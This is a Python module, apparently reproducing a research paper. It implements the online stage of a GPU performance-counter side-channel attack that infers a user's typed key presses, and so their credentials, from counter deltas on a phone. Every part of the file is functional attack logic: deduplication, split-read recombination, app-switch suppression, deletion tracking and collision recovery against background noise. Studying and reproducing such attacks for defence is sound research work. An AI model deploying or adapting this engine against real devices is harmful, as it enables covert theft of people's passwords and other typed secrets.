"""The Online Phase inference engine (paper Algorithm 1 + Sections 5.1-5.3).

The engine consumes the stream of nonzero PC deltas produced by the
sampler and maintains the inferred key-press set E with timestamps M:

1. **Duplication** — a key press inferred within Δt1 = 75 ms of the
   previous one is a popup-animation duplicate and is suppressed.
2. **Split** — a delta that classifies as nothing is merged with the
   previous unconsumed delta; if the combination classifies as a key
   press, it was a split read and the press is inferred at the earlier
   timestamp (the greedy step the paper notes can occasionally be wrong).
3. **System noise** — anything that still classifies as nothing.
4. **App switches** — burst detection suppresses inference while the
   user is away from the target app (Section 5.2).
5. **Corrections** — text-field redraws carry the input length; length
   drops delete the most recent inferred characters (Section 5.3).

On top of Algorithm 1, the engine applies two recovery heuristics for
collision cases the greedy algorithm loses (both grounded in what the
offline phase already knows):

* **pending-dismiss subtraction** — after a key press is inferred, its
  popup must dismiss within a few hundred ms; if an unexplained change
  arrives while that dismissal is pending (fast typing can land the
  dismissal and the *next* press in the same read), subtracting the known
  dismiss signature often reveals the press underneath;
* **duplication halving** — a popup-animation duplicate landing in the
  same read as its press doubles the delta; an unexplained change that
  classifies as a key press at half magnitude is such a merge.

Every classifier call is timed with a monotonic clock; the recorded
latencies reproduce the paper's Fig 25 (>95 % of inferences under 0.1 ms).
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field, fields
from typing import Dict, List, Optional, Sequence, Tuple

import numpy as np

from repro.core.appswitch import AppSwitchDetector
from repro.core.classifier import Classification, ClassificationModel
from repro.core.corrections import CorrectionTracker
from repro.core import features
from repro.core.dedup import DEDUP_WINDOW_S, DuplicationFilter
from repro.kgsl.sampler import PcDelta
from repro.obs import Histogram, MetricsRegistry, new_latency_histogram, resolve_registry
from repro.runtime.trace import RuntimeTrace

#: Maximum gap between two reads for split recombination: a render split
#: across reads lands in *consecutive* reads, so a little over one
#: nominal interval is enough.
SPLIT_MERGE_FACTOR = 2.6


@dataclass
class InferredKey:
    """One inferred key press (an element of E with its M timestamp).

    ``low_confidence`` marks keys classified from a masked feature
    vector (counters missing at the KGSL boundary): reported rather than
    dropped, but flagged so the consumer can weigh them accordingly.
    """

    t: float
    char: str
    distance: float
    deleted: bool = False
    from_split: bool = False
    low_confidence: bool = False


@dataclass
class EngineStats:
    """Bookkeeping the evaluation section reports on."""

    deltas_seen: int = 0
    keys_inferred: int = 0
    duplicates_suppressed: int = 0
    splits_recovered: int = 0
    noise_events: int = 0
    field_events: int = 0
    deletions_detected: int = 0
    suppressed_by_switch: int = 0
    unattributed_growth: int = 0
    gaps_seen: int = 0
    masked_deltas: int = 0
    low_confidence_keys: int = 0


@dataclass
class OnlineResult:
    """Full output of one eavesdropping run.

    ``latency`` is the per-inference classifier-latency histogram (Fig
    25); it retains its raw samples.
    """

    keys: List[InferredKey] = field(default_factory=list)
    stats: EngineStats = field(default_factory=EngineStats)
    latency: Histogram = field(default_factory=new_latency_histogram)
    trace: Optional[RuntimeTrace] = None

    @property
    def text(self) -> str:
        """The inferred credential, with detected deletions applied."""
        return "".join(k.char for k in self.keys if not k.deleted)

    def key_times(self) -> List[float]:
        return [k.t for k in self.keys if not k.deleted]


class OnlineEngine:
    """Algorithm 1 with the Section 5.2/5.3 extensions."""

    def __init__(
        self,
        model: ClassificationModel,
        interval_s: float = 0.008,
        dedup_window_s: float = DEDUP_WINDOW_S,
        detect_switches: bool = True,
        track_corrections: bool = True,
        recover_collisions: bool = True,
        trace: Optional[RuntimeTrace] = None,
        session: str = "",
        stage_name: str = "engine",
        metrics: Optional[MetricsRegistry] = None,
        collect_evidence: bool = False,
    ) -> None:
        self.model = model
        self.interval_s = interval_s
        self.dedup = DuplicationFilter(window_s=dedup_window_s)
        self.track_corrections = track_corrections
        self.corrections = CorrectionTracker()
        self.recover_collisions = recover_collisions
        self.trace = trace
        self.session = session
        self.stage_name = stage_name
        self.metrics = resolve_registry(metrics)
        # resolved once: with the null registry this is the shared no-op
        # instrument, so the hot path pays one attribute load per observe
        self._latency_hist = self.metrics.histogram("engine.inference_latency_s")
        self._noise_ring: List = []
        #: Opt-in calibration-evidence capture: unexplained full-vector
        #: deltas (the shape drifted key presses take) are retained for
        #: the lifecycle's drift-ratio estimator.  Off by default — the
        #: fast path and golden traces are untouched.
        self.collect_evidence = collect_evidence
        self.evidence: List[np.ndarray] = []
        #: Hot swaps performed on this engine (kept off
        #: :class:`EngineStats` so existing result schemas don't shift).
        self.model_swaps = 0
        self._active_model = model
        self._deflation_u = None
        self._result: Optional[OnlineResult] = None
        self._prev: Optional[PcDelta] = None
        self._prev_consumed = True
        self._last_fed_t: Optional[float] = None
        self.switch_detector: Optional[AppSwitchDetector] = None
        if detect_switches:
            self.switch_detector = AppSwitchDetector(
                big_threshold=self._switch_threshold(model)
            )

    def _emit(self, t: float, kind: str, **detail) -> None:
        """Record one engine decision in the shared runtime event log."""
        if self.trace is not None:
            self.trace.emit(t, self.session, self.stage_name, kind, **detail)

    def _observe_latency(self, result: OnlineResult, elapsed_s: float) -> None:
        """One classifier-call latency, into the result's own histogram
        and the run-wide registry aggregate."""
        result.latency.observe(elapsed_s)
        self._latency_hist.observe(elapsed_s)

    @staticmethod
    def _switch_threshold(model: ClassificationModel) -> float:
        """Raw-magnitude threshold separating full-screen transitions from
        typing-scale changes: above every key centroid's total."""
        key_totals = [
            float(model.centroid(label).sum()) for label in model.key_labels
        ]
        if not key_totals:
            return 1e7
        return 2.5 * max(key_totals)

    # ------------------------------------------------------------------

    def process(self, deltas: Sequence[PcDelta]) -> OnlineResult:
        """Run the engine over a complete delta stream.

        The batch path is a thin wrapper: it delegates every delta to the
        incremental :meth:`feed` and closes the stream with
        :meth:`finish`, so streaming and batch execution are the same
        code path by construction.
        """
        self.begin()
        for delta in deltas:
            self.feed(delta)
        return self.finish()

    def feed_many(self, deltas: Sequence[PcDelta]) -> OnlineResult:
        """Consume a batch of deltas through the vectorized classifier.

        Semantically this *is* the ``for delta: feed(delta)`` loop — every
        Algorithm-1 decision still runs per delta, in order — but the
        primary nearest-centroid lookup for the whole batch is computed
        up front with :meth:`ClassificationModel.classify_batch` (one
        GEMM for n deltas) and injected into each step.  A step uses its
        precomputed answer only while the model it was scored against is
        still active: ambient deflation can swap ``_active_model``
        mid-stream, at which point the remaining tail is re-batched
        against the new view.  Secondary lookups (duplication halving,
        composite subtraction, collision recovery) stay per-delta — they
        are rare and depend on state only the sequential pass knows.
        """
        if self._result is None:
            self.begin()
        pending = list(deltas)
        while pending:
            model = self._active_model
            live = [j for j, delta in enumerate(pending) if delta]
            pre: Dict[int, Classification] = {}
            per_delta_s = 0.0
            if live:
                t0 = time.perf_counter()
                matrix = np.vstack([features.vectorize(pending[j]) for j in live])
                masks = np.vstack(
                    [features.present_mask(pending[j].missing) for j in live]
                )
                pre = dict(zip(live, model.classify_batch(matrix, masks)))
                per_delta_s = (time.perf_counter() - t0) / len(live)
            consumed = 0
            for j, delta in enumerate(pending):
                self.feed(delta, _precomputed=(model, pre.get(j), per_delta_s))
                consumed += 1
                if self._active_model is not model:
                    break
            pending = pending[consumed:]
        return self._result

    def begin(self) -> OnlineResult:
        """Open a new stream; returns the (live) result accumulator."""
        self._result = OnlineResult(trace=self.trace)
        self._prev = None
        self._prev_consumed = True
        self._last_fed_t = None
        return self._result

    def swap_model(self, model: ClassificationModel) -> None:
        """Hot-swap the classification model mid-session.

        Stream state — the dedup window, correction tracker, unconsumed
        previous delta, app-switch burst state — carries over untouched;
        only the classifier view changes.  An active ambient-deflation
        direction is re-applied to the new model, and the app-switch
        burst threshold is re-derived from the new centroids.  A
        :meth:`feed_many` batch in flight notices the swap through its
        existing re-batching seam (``_active_model`` identity check) and
        re-scores its remaining tail against the new model, so no delta
        is ever classified twice or skipped.
        """
        self.model = model
        self._active_model = (
            model
            if self._deflation_u is None
            else model.with_deflation(self._deflation_u)
        )
        if self.switch_detector is not None:
            self.switch_detector.big_threshold = self._switch_threshold(model)
        self.model_swaps += 1
        if self.metrics.enabled:
            self.metrics.counter("engine.model_swaps").inc()
        self._emit(
            self._last_fed_t if self._last_fed_t is not None else 0.0,
            "model_swap",
            model_key=model.model_key,
        )

    def drain_evidence(self) -> List[np.ndarray]:
        """Return and clear the collected calibration-evidence vectors."""
        evidence, self.evidence = self.evidence, []
        return evidence

    def _classify(self, delta: PcDelta):
        """Classify a delta, masking missing feature dimensions if any."""
        if delta.missing:
            return self._active_model.classify_vector_masked(
                features.vectorize(delta), features.present_mask(delta.missing)
            )
        return self._active_model.classify(delta)

    def feed(
        self,
        delta: PcDelta,
        _precomputed: Optional[Tuple[ClassificationModel, Optional[Classification], float]] = None,
    ) -> OnlineResult:
        """Consume one PC delta incrementally (Algorithm 1, one step).

        This is the streaming entry point the session runtime drives;
        state between calls (the unconsumed previous delta, the dedup
        window, the correction tracker) lives on the engine.

        ``_precomputed`` is :meth:`feed_many`'s private channel: a
        ``(model, classification, elapsed_s)`` triple from a batched
        ``classify_batch`` pass.  It is honored only while ``model`` is
        still the active model — ambient deflation can swap the view
        between batching and this step, in which case the delta is
        re-classified fresh and the caller re-batches its tail.
        """
        if self._result is None:
            self.begin()
        result = self._result
        self._last_fed_t = delta.t
        if delta.gap:
            # dropped/deferred reads between the endpoints: events in the
            # hole were merged or lost — record it even if the delta is
            # otherwise unremarkable
            result.stats.gaps_seen += 1
            self._emit(delta.t, "gap", span_s=delta.t - delta.prev_t)
        if not delta:
            return result
        result.stats.deltas_seen += 1
        masked = bool(delta.missing)
        if masked:
            result.stats.masked_deltas += 1
            self._emit(delta.t, "masked_delta", missing=len(delta.missing))

        # Ambient-workload correction (Fig 22b): a background app adds
        # an increment of unknown magnitude but stable *direction* to
        # every counter read.  Once that direction is estimated (from
        # the recurring unexplained deltas), the engine switches to a
        # deflated model view that projects it out of observations and
        # centroids alike, cleaning the whole pipeline at once.
        if self.recover_collisions:
            self._refresh_deflation(t=delta.t)

        if _precomputed is not None and _precomputed[0] is self._active_model:
            classification = _precomputed[1]
            self._observe_latency(result, _precomputed[2])
        else:
            t0 = time.perf_counter()
            classification = self._classify(delta)
            self._observe_latency(result, time.perf_counter() - t0)

        prev, prev_consumed = self._prev, self._prev_consumed

        if self.switch_detector is not None:
            observation = self.switch_detector.observe(
                delta, classification, magnitude=self._effective_magnitude(delta)
            )
            if observation.suppress:
                result.stats.suppressed_by_switch += 1
                self._emit(delta.t, "switch_suppressed")
                if classification.label is None:
                    # suppressed-but-unexplained changes still inform
                    # the ambient-workload estimate (a login animation
                    # can otherwise starve it into permanent suppression)
                    self._note_noise(delta)
                self._prev, self._prev_consumed = delta, True
                return result

        # Split recombination (Algorithm 1 lines 7-10): when the
        # previous change went unexplained, consider that this change
        # is the tail of a render split across two reads.  Take the
        # merged interpretation whenever it explains the data strictly
        # better than the change alone.
        merged_cls = None
        event_t = delta.t
        if (
            prev is not None
            and not prev_consumed
            and 0.0 <= delta.t - prev.t <= self.interval_s * SPLIT_MERGE_FACTOR
            and prev.prev_t <= delta.prev_t
        ):
            merged = delta.merge(prev)
            t0 = time.perf_counter()
            merged_cls = self._classify(merged)
            self._observe_latency(result, time.perf_counter() - t0)
        if merged_cls is not None and merged_cls.label is not None and (
            classification.label is None
            or merged_cls.distance < classification.distance
        ):
            classification = merged_cls
            event_t = prev.t
            result.stats.splits_recovered += 1
            self._emit(delta.t, "split_merge", merged_from=prev.t)

        if classification.label is None and self.recover_collisions and not masked:
            # collision heuristics (halving, composite subtraction) need
            # the full feature vector — a masked delta would fabricate
            # evidence in the unobserved dimensions
            recovered = self._recover_collision(result, delta)
            if recovered is not None:
                classification = recovered
                self._emit(delta.t, "collision_recovered")
            elif (
                merged_cls is not None
                and merged_cls.label is None
                and not (prev is not None and prev.missing)
            ):
                # a composite event (press + dismiss/field) itself split
                # across two reads: recombine, then decompose
                t0 = time.perf_counter()
                merged_composite = self._active_model.classify_composite(
                    features.vectorize(delta.merge(prev)),
                    field_lengths=self._plausible_lengths(),
                )
                self._observe_latency(result, time.perf_counter() - t0)
                if merged_composite.is_key:
                    classification = merged_composite
                    event_t = prev.t
                    result.stats.splits_recovered += 1
                    self._emit(delta.t, "split_merge", merged_from=prev.t)

        if classification.is_key:
            self._infer_key(
                result, event_t, classification, from_split=event_t != delta.t
            )
            self._prev, self._prev_consumed = delta, True
            return result

        if classification.is_field:
            self._field_event(result, event_t, classification.field_length)
            # field redraws stay available for split recombination: a
            # partially-read blink can masquerade as a shorter field,
            # and its tail may arrive merged with a key press
            self._prev, self._prev_consumed = delta, False
            return result

        # Reject classes and unexplained noise both leave the delta
        # available for split recombination with the *next* change: the
        # first half of a split key press often masquerades as a
        # dismiss-like reject before its tail arrives.
        result.stats.noise_events += 1
        self._emit(delta.t, "noise", label=classification.label)
        if classification.label is None:
            self._note_noise(delta)
        self._prev, self._prev_consumed = delta, False
        return result

    def finish(self) -> OnlineResult:
        """Close the stream: flush pending burst state, detach the result."""
        if self._result is None:
            self.begin()
        if self.switch_detector is not None and self._last_fed_t is not None:
            self.switch_detector.flush(self._last_fed_t + 1.0)
        result = self._result
        if self.metrics.enabled:
            # end-of-stream flush: per-session decision tallies roll up
            # into the run-wide registry, away from the per-delta path
            for stat_field in fields(EngineStats):
                value = getattr(result.stats, stat_field.name)
                if value > 0:
                    self.metrics.counter(f"engine.{stat_field.name}").inc(value)
        self._result = None
        self._prev = None
        self._prev_consumed = True
        self._last_fed_t = None
        return result

    # ------------------------------------------------------------------

    #: Noise deltas kept for the ambient-baseline estimate.
    AMBIENT_WINDOW = 24
    #: Minimum noise observations before the ambient estimate is trusted.
    AMBIENT_MIN_SAMPLES = 6

    def _recover_collision(self, result: OnlineResult, delta: PcDelta):
        """Try the duplication-halving, dismiss/field-subtraction and
        ambient-baseline-subtraction heuristics.

        Only key interpretations are accepted — halving or subtracting a
        field redraw would fabricate length evidence.

        The ambient baseline targets concurrent GPU workloads (Fig 22b): a
        background 3D app renders a near-constant increment every frame,
        which the engine estimates from the recurring unexplained deltas
        and subtracts before classification.
        """
        t0 = time.perf_counter()
        half_cls = self._active_model.classify(delta.scaled(0.5))
        self._observe_latency(result, time.perf_counter() - t0)
        if half_cls.is_key:
            return half_cls

        vec = features.vectorize(delta)
        t0 = time.perf_counter()
        composite_cls = self._active_model.classify_composite(
            vec, field_lengths=self._plausible_lengths()
        )
        self._observe_latency(result, time.perf_counter() - t0)
        if composite_cls.is_key:
            return composite_cls

        return None

    def _effective_magnitude(self, delta: PcDelta) -> float:
        """Raw magnitude with the ambient direction's share removed, so a
        steady background or animation never masquerades as an app-switch
        burst."""
        if self._deflation_u is None:
            return float(delta.total)
        vec = features.vectorize(delta)
        scaled = vec / self.model.scale
        cleaned = (scaled - float(scaled @ self._deflation_u) * self._deflation_u) * self.model.scale
        return float(np.clip(cleaned, 0.0, None).sum())

    def _refresh_deflation(self, t: Optional[float] = None) -> None:
        """Adopt (or update) the deflated model view when a stable
        ambient direction is present."""
        direction = self._ambient_direction()
        if direction is None:
            return
        _, scaled_dir = direction
        if self._deflation_u is not None and float(scaled_dir @ self._deflation_u) > 0.999:
            return  # direction unchanged
        self._deflation_u = scaled_dir
        self._active_model = self.model.with_deflation(scaled_dir)
        self._emit(t if t is not None else 0.0, "ambient_deflation")
        if self.switch_detector is not None:
            # deflated observations make background deltas small again, so
            # the raw-magnitude burst threshold remains valid
            pass

    def _ambient_direction(self):
        """Unit direction (raw and scaled space) of the recurring
        unexplained deltas, if they point consistently enough to be a
        periodic background workload."""
        if len(self._noise_ring) < self.AMBIENT_MIN_SAMPLES:
            return None
        matrix = np.vstack(self._noise_ring)
        norms = np.linalg.norm(matrix, axis=1)
        keep = norms > 0
        if keep.sum() < self.AMBIENT_MIN_SAMPLES:
            return None
        if len(self._noise_ring) < self.AMBIENT_WINDOW:
            return None
        matrix = np.vstack(self._noise_ring)
        norms = np.linalg.norm(matrix, axis=1)
        keep = norms > 0
        if keep.sum() < self.AMBIENT_MIN_SAMPLES:
            return None
        units = matrix[keep] / norms[keep][:, None]
        # robust direction: the ring mixes pure background deltas with
        # contaminated event windows; fit the mean direction, keep the
        # inliers, refit, and demand the inlier cluster be large and tight
        mean_dir = units.mean(axis=0)
        mean_norm = float(np.linalg.norm(mean_dir))
        if mean_norm <= 0:
            return None
        mean_dir = mean_dir / mean_norm
        cosines = units @ mean_dir
        inliers = cosines > 0.9
        if inliers.sum() < max(self.AMBIENT_MIN_SAMPLES, 0.5 * len(units)):
            return None
        refined = units[inliers].mean(axis=0)
        refined_norm = float(np.linalg.norm(refined))
        if refined_norm < 0.98:
            return None
        raw_dir = refined / refined_norm
        scaled = matrix[keep][inliers] / self.model.scale[None, :]
        scaled_units = scaled / np.linalg.norm(scaled, axis=1)[:, None]
        scaled_dir = scaled_units.mean(axis=0)
        scaled_dir = scaled_dir / np.linalg.norm(scaled_dir)
        return raw_dir, scaled_dir

    #: Calibration-evidence vectors retained between drains.
    EVIDENCE_CAP = 512

    def _note_noise(self, delta: PcDelta) -> None:
        if delta.missing:
            # zeros in unobserved dimensions would bend the ambient
            # direction estimate toward the observed subspace
            return
        vec = features.vectorize(delta)
        self._noise_ring.append(vec)
        if len(self._noise_ring) > self.AMBIENT_WINDOW:
            self._noise_ring.pop(0)
        if self.collect_evidence and len(self.evidence) < self.EVIDENCE_CAP:
            # drifted key presses land here: full-vector changes the
            # frozen model can no longer explain
            self.evidence.append(vec)

    def _plausible_lengths(self):
        """Field lengths the composite search may subtract: near the
        correction tracker's current estimate, or unrestricted before any
        field event has been seen."""
        if not self.track_corrections:
            return None
        bounds = self.corrections.length_bounds()
        if bounds is None:
            return None
        lo, hi = bounds
        return tuple(range(max(0, lo - 1), hi + 3))

    def _infer_key(
        self, result: OnlineResult, t: float, classification, from_split: bool
    ) -> None:
        if not self.dedup.admit(t):
            result.stats.duplicates_suppressed += 1
            self._emit(t, "duplicate_suppressed")
            return
        char = classification.key_char
        assert char is not None
        low_confidence = getattr(classification, "confidence", 1.0) < 1.0
        result.keys.append(
            InferredKey(
                t=t,
                char=char,
                distance=classification.distance,
                from_split=from_split,
                low_confidence=low_confidence,
            )
        )
        result.stats.keys_inferred += 1
        if low_confidence:
            result.stats.low_confidence_keys += 1
            self._emit(t, "key", char=char, from_split=from_split, low_confidence=True)
        else:
            self._emit(t, "key", char=char, from_split=from_split)

    def _field_event(self, result: OnlineResult, t: float, length: Optional[int]) -> None:
        result.stats.field_events += 1
        self._emit(t, "field", length=length)
        if not self.track_corrections or length is None:
            return
        emitted = self.corrections.observe(
            t, length, keys_inferred_total=result.stats.keys_inferred
        )
        result.stats.unattributed_growth = self.corrections.unattributed_growth
        for event in emitted:
            result.stats.deletions_detected += 1
            self._emit(event.t, "correction")
            # delete the inferred key that actually preceded the backspace:
            # the most recent not-yet-deleted key inferred before the
            # decrease was first observed
            candidates = [
                k for k in result.keys if not k.deleted and k.t < event.t
            ]
            target = candidates[-1] if candidates else None
            if target is None:
                remaining = [k for k in result.keys if not k.deleted]
                target = remaining[-1] if remaining else None
            if target is not None:
                target.deleted = True
